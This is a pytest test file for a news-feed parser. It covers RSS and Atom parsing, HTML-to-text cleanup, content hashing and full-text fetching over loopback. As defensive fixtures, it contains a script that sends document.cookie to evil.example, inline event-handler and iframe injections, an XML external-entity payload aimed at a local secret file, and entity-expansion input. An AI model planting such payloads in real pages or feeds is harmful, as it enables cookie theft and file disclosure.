"""feeds.py: feed bytes to story items, HTML to text, content hashes, full text over loopback."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest
from support import eval_dir

from factcheck.feeds import (
    content_hash,
    full_text,
    html_to_text,
    needs_full_text,
    parse_feed,
)
from factcheck.models import StoryItem


def rss(items: str, extra_ns: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        f' xmlns:dc="http://purl.org/dc/elements/1.1/" {extra_ns}>'
        f"<channel><title>WDMO 7 News</title><link>https://wdmo.example/</link>{items}"
        "</channel></rss>"
    ).encode()


HOSTILE = """
<item><title>Police seize guns &amp; cash</title><link>https://wdmo.example/a</link>
<guid isPermaLink="false">wdmo-1</guid><dc:creator>Jane Roe</dc:creator>
<pubDate>Fri, 02 Aug 2024 10:00:00 -0500</pubDate>
<description>teaser</description>
<content:encoded><![CDATA[<p>Police said they took <b>more than 1,500</b> guns
off the streets.</p><script>document.location='https://evil.example/?c='+document.cookie</script>
<p onclick="steal()">Homicides are up 5.1&#37; as of August 2.<img src="x" onerror="alert(1)"></p>
<style>p { display:none }</style><iframe src="https://evil.example/frame">frame text</iframe>
<p>Chief&nbsp;Smith: &ldquo;We&rsquo;re not done.&rdquo;</p>]]></content:encoded></item>
"""


def test_item_fields_and_hostile_html_reduced_to_text():
    feed = parse_feed(rss(HOSTILE))
    assert feed.error is None and feed.title == "WDMO 7 News"
    [item] = feed.items
    assert item.guid == "wdmo-1"
    assert item.title == "Police seize guns & cash"
    assert item.url == "https://wdmo.example/a"
    assert item.author == "Jane Roe"
    assert item.published == datetime(2024, 8, 2, 15, 0, tzinfo=UTC)
    # content:encoded wins over the summary; scripts, styles, frames and attributes are gone
    assert item.text == (
        "Police said they took more than 1,500 guns off the streets.\n\n"
        "Homicides are up 5.1% as of August 2.\n\n"
        "Chief Smith: \u201cWe\u2019re not done.\u201d"
    )
    for bad in ("script", "evil", "cookie", "onerror", "alert", "onclick", "display:none", "frame"):
        assert bad not in item.text


def test_html_to_text_paragraphs_entities_and_whitespace():
    markup = (
        "<div><h2>Budget</h2><p>The council   approved\n $4.5&nbsp;million.</p>"
        "<ul><li>one</li><li>two</li></ul>Line<br>break &lt;not a tag&gt; &amp;amp;"
        "<!-- a comment --><noscript>no</noscript></div>"
    )
    assert html_to_text(markup) == (
        "Budget\n\nThe council approved $4.5 million.\n\none\n\ntwo\n\n"
        "Line\nbreak <not a tag> &amp;"
    )
    assert html_to_text("") == ""
    assert html_to_text("plain   text\n\n\n\nnext") == "plain text\n\nnext"
    assert "\x00" not in html_to_text("bad\x00byte<p>x</p>")


def test_identity_guid_else_link_else_title_hash():
    items = (
        "<item><title>A</title><guid>g-a</guid><link>https://x.example/a</link>"
        "<description>text a</description></item>"
        "<item><title>B</title><link>https://x.example/b</link><description>b</description></item>"
        "<item><title>C only</title><description>c</description></item>"
        "<item><title>A again</title><guid>g-a</guid><description>dup</description></item>"
    )
    feed = parse_feed(rss(items))
    guids = [i.guid for i in feed.items]
    assert guids[0] == "g-a"
    assert guids[1] == "https://x.example/b"
    assert re.fullmatch(r"content:[0-9a-f]{32}", guids[2])
    assert len(guids) == 3  # the repeated guid is one story (its first appearance kept)
    again = parse_feed(rss(items))
    assert [i.guid for i in again.items] == guids  # stable across parses


def test_relative_link_resolved_but_guid_kept_as_written():
    items = "<item><title>A</title><guid>story-1</guid><link>/news/a</link></item>"
    [item] = parse_feed(rss(items), base_url="https://wdmo.example/rss.xml").items
    assert item.url == "https://wdmo.example/news/a"
    assert item.guid == "story-1"


def test_headline_only_item_keeps_headline_as_text():
    [item] = parse_feed(rss("<item><title>Up 5 percent</title><guid>h</guid></item>")).items
    assert item.text == "Up 5 percent"


def test_atom_feed():
    atom = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom station</title>
<entry><id>tag:x,2024:1</id><title type="html">Rain &lt;b&gt;totals&lt;/b&gt;</title>
<link href="https://x.example/rain"/><updated>2024-08-02T10:00:00Z</updated>
<content type="html">&lt;p&gt;Two inches fell.&lt;/p&gt;</content></entry></feed>"""
    [item] = parse_feed(atom).items
    assert item.title == "Rain totals" and item.text == "Two inches fell."
    assert item.guid == "tag:x,2024:1" and item.published.year == 2024


def test_html_page_is_not_a_feed():
    page = b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>hi</p></body></html>"
    feed = parse_feed(page, content_type="text/html; charset=utf-8")
    assert feed.error == "not a feed: got an HTML page" and feed.items == []


@pytest.mark.parametrize(
    "data, error",
    [
        (b"", "not a feed: the response was empty"),
        (b"<rss><channel><item><title>x</titl", "malformed feed"),
        (b"\x00\xff\xfe garbage", "malformed feed"),
        (b'{"json": "is not a feed"}', "malformed feed"),
    ],
)
def test_malformed_feeds_give_an_error(data, error):
    feed = parse_feed(data)
    assert feed.error.startswith(error) and "\n" not in feed.error and feed.items == []


def test_parse_feed_refuses_strings():
    # feedparser would open a path or fetch a URL given as a string: never hand it one
    with pytest.raises(TypeError):
        parse_feed("http://127.0.0.1/feed.xml")  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        parse_feed("/etc/passwd")  # type: ignore[arg-type]


def test_entity_expansion_and_external_entities_do_nothing(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET")
    data = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">'
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<rss version="2.0"><channel><title>t</title><item><title>&x;&b;</title>'
        "<guid>1</guid><description>d</description></item></channel></rss>"
    ).encode()
    feed = parse_feed(data)
    assert all("TOPSECRET" not in i.title + i.text for i in feed.items)


def test_every_eval_file_parses_without_exception():
    root = eval_dir("feedparser")
    files = sorted(root.rglob("*.xml"))
    assert len(files) > 50
    for path in files:
        feed = parse_feed(path.read_bytes())
        assert feed.error is None or ("\n" not in feed.error and feed.items == [])
        for item in feed.items:
            assert isinstance(item.guid, str) and item.guid
            assert isinstance(item.title, str) and item.title
            assert isinstance(item.text, str) and item.text


# --- content hash -------------------------------------------------------------------------------


def test_content_hash_ignores_typography_only():
    base = content_hash("Guns seized", 'Police said "more than 1,500" guns.\n\nMore.')
    same = [
        ("Guns  seized", "Police said \u201cmore than 1500\u201d guns. More."),
        ("guns seized", "police said more than 1,500 guns\u2026 more"),
    ]
    for title, text in same:
        assert content_hash(title, text) == base
    changed = [
        ("Guns seized", 'Police said "more than 1,600" guns.'),
        ("Guns seized", 'Police said "more than 15.00" guns.'),
        ("Guns seized", 'Police said "fewer than 1,500" guns.'),
        ("Guns taken", 'Police said "more than 1,500" guns.\n\nMore.'),
    ]
    for title, text in changed:
        assert content_hash(title, text) != base
    assert content_hash("t", "up 5.1%") != content_hash("t", "up 51%")


# --- full text ----------------------------------------------------------------------------------


def _item(text: str, url: str | None = "https://x.example/a") -> StoryItem:
    return StoryItem(guid="g", title="t", url=url, published=None, author=None, text=text)


def test_needs_full_text():
    assert needs_full_text(_item("Short teaser."))
    assert needs_full_text(_item("x " * 300 + "Read more..."))
    assert needs_full_text(_item("x " * 300 + "[\u2026]"))
    assert not needs_full_text(_item("A whole story. " * 40))
    assert not needs_full_text(_item("Short teaser.", url=None))
    assert not needs_full_text(_item("Short teaser.", url="javascript:alert(1)"))


ARTICLE = """<!DOCTYPE html><html><head><title>Budget</title>
<script>var tracker = "TRACKER";</script></head><body>
<nav><a href="/">Home</a> <a href="/weather">Weather</a> <a href="/traffic">Traffic</a></nav>
<article><h1>Council passes budget</h1>
<p>The city council approved a budget of $4.5 million on Tuesday night after a long debate
about road repairs and school buses across the district.</p>
<p>Council members said the plan adds 12 officers and sets aside 300 thousand dollars for
pothole repairs, the largest such line in the city's budget since 2018.</p>
<p>The mayor is expected to sign it on Friday, a spokesperson said in a statement.</p>
<script>alert("INLINE")</script></article>
<footer>Copyright WDMO 7. All rights reserved. Privacy policy.</footer></body></html>"""


def test_full_text_extracts_main_text_over_loopback(feed_server, net_settings):
    url = feed_server.serve("/budget", ARTICLE, content_type="text/html; charset=utf-8")
    text = full_text(url, net_settings)
    assert "approved a budget of $4.5 million" in text
    assert "adds 12 officers" in text
    assert "TRACKER" not in text and "INLINE" not in text and "Privacy policy" not in text
    assert "\n\n" in text  # paragraphs kept apart
    assert feed_server.count("/budget") == 1


def test_full_text_gives_none_when_the_page_fails(feed_server, net_settings, strict_settings):
    assert full_text(feed_server.serve("/gone", b"no", status=404), net_settings) is None
    pdf = feed_server.serve("/doc.pdf", b"%PDF-1.4", content_type="application/pdf")
    assert full_text(pdf, net_settings) is None
    # the article page obeys the same address rules as the feed
    ok = feed_server.serve("/budget", ARTICLE, content_type="text/html")
    before = feed_server.count()
    assert full_text(ok, strict_settings) is None
    assert feed_server.count() == before
